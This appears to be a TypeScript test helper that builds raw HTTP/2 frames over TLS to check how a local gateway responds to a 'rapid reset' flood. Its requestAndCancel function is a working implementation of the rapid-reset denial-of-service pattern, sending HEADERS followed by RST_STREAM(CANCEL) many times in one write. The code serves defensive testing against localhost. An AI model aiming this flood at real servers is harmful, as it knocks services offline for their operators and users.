import tls from 'node:tls';
import { devCa } from './clients.ts';

/**
 * A raw HTTP/2 attacker over TLS, frame by frame (RFC 9113 §4, §6), as the
 * rapid-reset proofs of concept are written: no client library decides when
 * to send, queue or give up, so what the gateway receives is exactly what
 * the test wrote, and its GOAWAY is read straight off the wire.
 */
export interface RawH2 {
  /** HEADERS (END_STREAM) for a GET, then RST_STREAM(CANCEL) on the same stream, `count` times in one write. */
  requestAndCancel(count: number): void;
  /** PING, resolved at its ACK: every frame written before it has been processed by then (RFC 9113 §6.7). */
  ping(): Promise<void>;
  /** The GOAWAY's error code once one arrived (null until then). */
  readonly goawayCode: number | null;
  /** True once the gateway closed the connection. */
  readonly closed: boolean;
  destroy(): void;
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, PING: 0x6, GOAWAY: 0x7 } as const;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK (RFC 7541): static-table entries :method GET (2), :scheme https (7), then :path and :authority as literals without indexing. */
function getHeaderBlock(path: string, authority: string): Buffer {
  const literal = (nameIndex: number, value: string) => {
    const v = Buffer.from(value, 'latin1');
    if (v.length > 126) throw new Error('the test encodes short values only');
    return Buffer.concat([Buffer.from([nameIndex, v.length]), v]);
  };
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, authority)]);
}

export function connectRawH2(port: number, authority = 'api.svc.plus'): Promise<RawH2> {
  return new Promise((resolve, reject) => {
    const socket = tls.connect({ host: '127.0.0.1', port, servername: authority, ca: devCa(), ALPNProtocols: ['h2'] });
    let nextStream = 1;
    let goawayCode: number | null = null;
    let closed = false;
    let pending = Buffer.alloc(0);
    const pingAcks: (() => void)[] = [];
    socket.on('error', () => {});
    socket.on('close', () => (closed = true));
    socket.on('data', (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        const type = pending[3]!;
        const flags = pending[4]!;
        const payload = pending.subarray(9, 9 + length);
        pending = pending.subarray(9 + length);
        if (type === TYPE.SETTINGS && !(flags & ACK)) socket.write(frame(TYPE.SETTINGS, ACK, 0, Buffer.alloc(0)));
        if (type === TYPE.PING && flags & ACK) pingAcks.shift()?.();
        if (type === TYPE.GOAWAY && goawayCode === null) goawayCode = payload.readUInt32BE(4);
      }
    });
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') return reject(new Error(`ALPN chose ${String(socket.alpnProtocol)}, not h2`));
      socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0))]));
      resolve({
        requestAndCancel(count: number) {
          const frames: Buffer[] = [];
          const rst = Buffer.alloc(4);
          rst.writeUInt32BE(CANCEL);
          for (let i = 0; i < count; i++, nextStream += 2) {
            frames.push(frame(TYPE.HEADERS, END_STREAM | END_HEADERS, nextStream, getHeaderBlock(`/rr/${nextStream}`, authority)));
            frames.push(frame(TYPE.RST_STREAM, 0, nextStream, rst));
          }
          socket.write(Buffer.concat(frames));
        },
        ping() {
          return new Promise<void>((done) => {
            pingAcks.push(done);
            socket.write(frame(TYPE.PING, 0, 0, Buffer.alloc(8)));
          });
        },
        get goawayCode() {
          return goawayCode;
        },
        get closed() {
          return closed;
        },
        destroy: () => socket.destroy(),
      });
    });
    socket.once('error', reject);
  });
}
